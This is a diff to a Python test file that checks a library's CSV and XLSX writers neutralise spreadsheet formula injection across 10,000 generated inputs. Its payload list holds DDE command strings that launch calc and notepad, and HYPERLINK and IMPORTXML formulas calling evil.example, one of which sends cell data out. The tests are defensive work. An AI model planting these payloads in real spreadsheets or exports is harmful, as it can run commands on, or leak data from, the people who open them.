@@ -5,7 +5,10 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import random
+import re
 import zipfile
+from pathlib import Path
 
 import openpyxl
 import pytest
@@ -13,6 +16,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl.utils.datetime import CALENDAR_MAC_1904
 
+import hermanar
 from hermanar.foundation.tables import (
     Column,
     RefusedTableError,
@@ -124,6 +128,7 @@ REFUSED = [
 ]  # fmt: skip
 
 
+@pytest.mark.row(10, 11)
 @pytest.mark.parametrize(
     ("data", "name", "code", "row", "letter"), [case[1:] for case in REFUSED], ids=[c[0] for c in REFUSED]
 )
@@ -133,6 +138,7 @@ def test_what_cannot_be_trusted_is_refused_by_its_place(data, name, code, row, l
     assert str(fault)
 
 
+@pytest.mark.row(10)
 def test_an_entity_bomb_in_a_sheet_is_refused_before_it_grows():
     data = rebuilt(BOOK, replace=[("xl/worksheets/sheet1.xml", b"<worksheet", BOMB + b"<worksheet")])
     assert faults_of(data, "a.xlsx")[0].code in {"entities", "damaged"}
@@ -234,6 +240,50 @@ def test_no_cell_written_ever_runs(rows):
     book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_chunks(columns, rows, sheet="x"))))
     kinds = {cell.data_type for row in book.active.iter_rows() for cell in row if cell.value is not None}
     assert kinds <= {"s"}
+
+
+RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+COMMANDS = (
+    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"clic")', "SUM(A1:A9)*cmd|'/C calc'!A0", "DDE(x)",
+    'IMPORTXML("http://evil.example","//a")', "WEBSERVICE(A1)", "2+5+cmd|'/C notepad'!A1", "1,2", '"1"', "'1", "", "1\n=2",
+)  # fmt: skip
+
+
+def texts_that_would_run(count):
+    """Return so many texts, each beginning as a formula does, no two alike."""
+    chance = random.Random(14)  # noqa: S311  the same texts each time
+    for number in range(count):
+        yield f"{RUNS[number % len(RUNS)]}{chance.choice(('', ' ', '=', '@', '+-'))}{chance.choice(COMMANDS)}{number}"
+
+
+@pytest.mark.row(14)
+def test_ten_thousand_texts_that_would_run_are_inert(figure):
+    texts = list(texts_that_would_run(10_000))
+    assert len(set(texts)) == 10_000
+    column = [Column("=texto", lambda text: text)]
+    # Each text in a batch of its own: a batch is looked through as a whole, and nothing else may give it away.
+    for data in (b"".join(csv_chunks(column, texts)), b"".join(csv_batches(["=texto"], ([[text]] for text in texts)))):
+        heading, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+        assert heading == ["'=texto"]
+        assert len(rows) == len(texts)
+        assert all(row == [f"'{text}"] for row, text in zip(rows, texts, strict=True))
+    made = b"".join(xlsx_chunks(column, texts, sheet="x"))
+    with zipfile.ZipFile(io.BytesIO(made)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+        styles = archive.read("xl/styles.xml").decode()
+    assert "<f>" not in sheet
+    assert len(re.findall(r'<c t="inlineStr" s="1">', sheet)) == len(texts)  # text, and text still when it is edited
+    assert 'quotePrefix="1"' in re.findall(r"<xf [^>]*>", styles.partition("<cellXfs")[2])[1]
+    figure(f"{len(texts)} texts in three writings, 0 that a spreadsheet would run")
+
+
+@pytest.mark.row(14)
+def test_nobody_else_writes_a_table():
+    """Whoever wrote one past the writers of this room would have to make its cells inert again."""
+    package = Path(hermanar.__file__).parent
+    writes = re.compile(r"csv\.(writer|DictWriter)|openpyxl\.Workbook\(|\.writerow")
+    found = {path.relative_to(package).as_posix() for path in package.rglob("*.py") if writes.search(path.read_text())}
+    assert found == {"foundation/tables/writing.py"}
 
 
 def test_numbers_stay_numbers_and_texts_come_back():
